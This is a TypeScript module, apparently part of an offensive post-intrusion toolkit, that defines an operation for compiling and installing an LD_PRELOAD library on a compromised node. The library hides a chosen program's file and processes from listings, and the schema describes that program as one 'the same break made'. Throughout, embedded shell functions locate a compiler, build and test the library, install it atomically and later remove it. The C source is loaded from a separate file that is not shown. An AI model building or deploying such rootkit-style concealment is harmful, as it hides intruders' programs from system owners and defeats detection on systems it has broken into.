import { readFileSync } from "node:fs";
import { posix } from "node:path";
import type { FromSchema } from "json-schema-to-ts";
import { type Shell, sh, trusted } from "../shell.ts";
import { common, type OperationKind } from "./operation.ts";

const plainPath = "^(/(?!\\.\\.?(/|$))[A-Za-z0-9_.@+:-]+)+$";

const schema = {
  type: "object",
  description:
    "Compile a library on the node that, preloaded, leaves one program out of listings: its file and its processes.",
  properties: {
    kind: { const: "preload" },
    path: { type: "string", pattern: plainPath, description: "The library; there must be nothing yet." },
    program: {
      type: "string",
      pattern: plainPath,
      description: "The program that is left out: one that the same break made.",
    },
  },
  required: ["kind", "path", "program"],
  additionalProperties: false,
} as const;

export type PreloadOperation = Readonly<FromSchema<typeof schema>>;

/** The library is proven before anybody can preload it: one that fails would fail in every program, sshd among them. */
const library = trusted(String.raw`
preload_compiler() {
  for name in cc gcc clang tcc; do
    if command -v "$name" >/dev/null; then echo "$name"; return; fi
  done
}
preload_read() { # path temporary
  if [ -L "$1" ]; then put type other
  elif [ -f "$1" ]; then
    if grep -qF -e "$TOKEN" -- "$1"; then put type ours; else put type other; fi
  elif [ -e "$1" ]; then put type other
  else put type absent
  fi
  if [ -e "$2" ]; then put unfinished yes; fi
  note compiler "$(preload_compiler)"
  folder=$(dirname -- "$1")
  [ -d "$folder" ] || { note parent missing; return 0; }
  [ -w "$folder" ] || note readonly yes
}
preload_make() { # path temporary program folder name source
  made=$2
  trap 'rm -rf -- "$made"' EXIT
  rm -rf -- "$2"
  mkdir -m 700 -- "$2"
  printf %s "$6" > "$2/source.c"
  "$(preload_compiler)" -shared -fPIC -nostdlib -DPROGRAM="\"$3\"" -DFOLDER="\"$4\"" -DNAME="\"$5\"" \
    -DMARK="\"$TOKEN\"" -o "$2/library.so" "$2/source.c"
  preload_check "$2/library.so"
  chmod 755 -- "$2/library.so"
  sync -- "$2/library.so"
  mv -T -- "$2/library.so" "$1"
  sync -- "$(dirname -- "$1")"
}
preload_check() { # library
  complaint=$(LD_PRELOAD=$1 ls -a / 2>&1 >/dev/null) && [ -z "$complaint" ] && [ "$(LD_PRELOAD=$1 ls -a /)" = "$(ls -a /)" ] && return
  echo "programs do not run well with the library that was compiled: $complaint" >&2
  return 1
}
preload_drop() { # path temporary
  rm -rf -- "$2"
  [ -e "$1" ] || [ -L "$1" ] || return 0
  if [ -f "$1" ] && [ ! -L "$1" ] && grep -qF -e "$TOKEN" -- "$1"; then rm -f -- "$1"
  else
    echo "$1 is not the library that was made there: it is left alone" >&2
    return 1
  fi
  sync -- "$(dirname -- "$1")"
}
`);

const source = () => readFileSync(new URL("preload.c", import.meta.url), "utf8");

/** The folder in which it is made: beside it, so that rename is atomic. */
const temporary = ({ path }: PreloadOperation): Shell => sh`${posix.dirname(path)}/."$TOKEN"`;

export const preload: OperationKind<PreloadOperation> = {
  ...common,
  kind: "preload",
  summary: schema.description,
  schema,
  library,
  title: ({ path, program }) => `compile ${path}, which hides ${program}`,
  owns: ({ path }) => [`file:${posix.normalize(path)}`],
  commands: () => ["grep", "sync"],
  folders: ({ path }) => [posix.dirname(path)],
  read: (spec) => sh`preload_read ${spec.path} ${temporary(spec)}`,
  refusal({ path }, { values, notes }) {
    if (values.type !== "absent") return `${path} is already there`;
    if (notes.parent === "missing") return `the folder of ${path} does not exist`;
    if (notes.readonly === "yes") return `${path} is on a read-only file system`;
    if (!notes.compiler)
      return "no C compiler is on the node (cc, gcc, clang or tcc), and the library is compiled there";
    return undefined;
  },
  apply: (spec) =>
    sh`preload_make ${spec.path} ${temporary(spec)} ${spec.program} ${posix.dirname(spec.program)} ${posix.basename(spec.program)} ${source()}`,
  restore: (spec) => sh`preload_drop ${spec.path} ${temporary(spec)}`,
  inEffect: (_spec, _before, { values }) => values.type === "ours" && values.unfinished !== "yes",
  remains: (_spec, _before, { values }) => values.type === "ours" || values.unfinished === "yes",
  preview: (spec) => ({ line: preload.title(spec) }),
};
